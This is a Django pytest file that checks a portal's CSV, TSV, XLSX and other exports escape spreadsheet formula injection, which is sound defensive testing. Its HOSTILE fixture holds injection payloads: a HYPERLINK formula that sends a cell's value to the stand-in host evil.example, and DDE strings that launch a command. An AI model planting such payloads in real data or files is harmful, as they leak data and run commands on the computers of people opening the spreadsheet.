"""No export gives a spreadsheet program a formula to run: every cell that starts with = + - @, a
tab or a carriage return (OWASP's list) carries a leading apostrophe, in every format and through
every export path (the admin's Export button, the bulk exports, COPY on PostgreSQL). Files are read
back with the csv module and openpyxl, as a spreadsheet program would see them."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.test import Client
from django.urls import reverse

from portal.bulk.copy_export import copy_csv
from portal.bulk.formats import read_tables
from portal.bulk.registry import get_spec
from portal.bulk.services import export_table
from portal.models import Status
from profiles.models import Initiative
from profiles.resources import InitiativeResource
from tests.portal.factories import UserFactory
from tests.profiles.factories import CountryFactory, InitiativeFactory

pytestmark = pytest.mark.django_db

STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 behind a tab",
    "\r": "\r=1+1 behind a carriage return",
}


@pytest.fixture
def hostile_records():
    country = CountryFactory(iso_code="ZZ", name="=HYPERLINK(1)", slug="zedland")
    for n, title in enumerate(HOSTILE.values()):
        InitiativeFactory(country=country, title=title, year=2000 + n, status=Status.PUBLISHED)
    return country


def assert_formula_safe_cells(rows):
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    unsafe = [cell for cell in cells if cell.startswith(STARTS)]
    assert unsafe == []
    for value in HOSTILE.values():
        # XML reads a carriage return as a line feed (XLSX is XML).
        assert {"'" + value, "'" + value.replace("\r", "\n")} & set(cells), f"{value!r} missing"


def csv_rows(content, delimiter=","):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_rows(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            formulas = [cell.coordinate for cell in row if cell.data_type == "f"]
            assert formulas == [], f"formula cells in {sheet.title}: {formulas}"
            rows.append([cell.value for cell in row])
    return rows


def admin_export(model_name, format_label):
    """Sign in and press Export on the admin page of `model_name`, CSRF checks on."""
    chief = UserFactory(username="chief", is_superuser=True)
    chief.save()
    client = Client(enforce_csrf_checks=True)
    client.force_login(chief)
    url = reverse(f"admin:profiles_{model_name}_export")
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    [format_index] = [i for i, label in form.fields["format"].choices if label == format_label]
    data = {"format": format_index, "csrfmiddlewaretoken": page.context["csrf_token"]}
    data.update(
        {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
    )
    if "resource" in form.fields:
        data["resource"] = form.fields["resource"].choices[0][0]
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


@pytest.mark.parametrize(
    ("format_label", "read"),
    [
        ("csv", csv_rows),
        ("tsv", lambda content: csv_rows(content, delimiter="\t")),
        ("xlsx", xlsx_rows),
    ],
)
@pytest.mark.parametrize("model_name", ["initiative", "country"])
def test_admin_export_button_gives_no_formula(hostile_records, model_name, format_label, read):
    """Initiatives have their own resource; countries get django-import-export's default."""
    rows = read(admin_export(model_name, format_label))
    if model_name == "initiative":
        assert_formula_safe_cells(rows)
    else:
        cells = [cell for row in rows for cell in row if isinstance(cell, str)]
        assert "'=HYPERLINK(1)" in cells
        assert not [cell for cell in cells if cell.startswith(STARTS)]


def test_admin_export_in_every_other_format_is_escaped_too(hostile_records):
    for label in ("json", "yaml", "html"):
        content = admin_export("initiative", label).decode()
        assert "'=HYPERLINK(" in content, label


def test_bulk_exports_give_no_formula(hostile_records):
    spec = get_spec("initiatives")
    for kind, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        target = io.BytesIO() if kind == "xlsx" else io.StringIO()
        export_table(spec=spec, target=target, kind=kind)
        content = target.getvalue()
        assert_formula_safe_cells(read(content if kind == "xlsx" else content.encode()))


@pytest.mark.postgres
def test_copy_export_on_postgresql_gives_no_formula(hostile_records):
    target = io.StringIO()
    assert copy_csv(get_spec("initiatives"), target)
    assert_formula_safe_cells(csv_rows(target.getvalue().encode()))


def test_exports_read_back_to_the_original_text(hostile_records):
    """The escape is for spreadsheet programs only: the portal's own readers take it off."""
    titles = set(HOSTILE.values())
    for kind in ("csv", "xlsx"):
        target = io.BytesIO() if kind == "xlsx" else io.StringIO()
        export_table(spec=get_spec("initiatives"), target=target, kind=kind)
        content = target.getvalue()
        data = io.BytesIO(content if kind == "xlsx" else content.encode())
        [table] = read_tables(data, f"initiatives.{kind}")
        column = table.headers.index("title")
        read = {cells[column] for _number, cells in table.rows}
        # XML, and so XLSX, has no carriage return: any reader sees a line feed there instead.
        expected = titles - {HOSTILE["\r"]} if kind == "xlsx" else titles
        assert expected <= read, kind
    before = dict(Initiative.objects.values_list("pk", "title"))
    exported = InitiativeResource().export()
    result = InitiativeResource().import_data(tablib.Dataset().load(exported.csv, format="csv"))
    assert not result.has_validation_errors() and not result.has_errors()
    assert result.totals["skip"] == len(before)
    assert dict(Initiative.objects.values_list("pk", "title")) == before
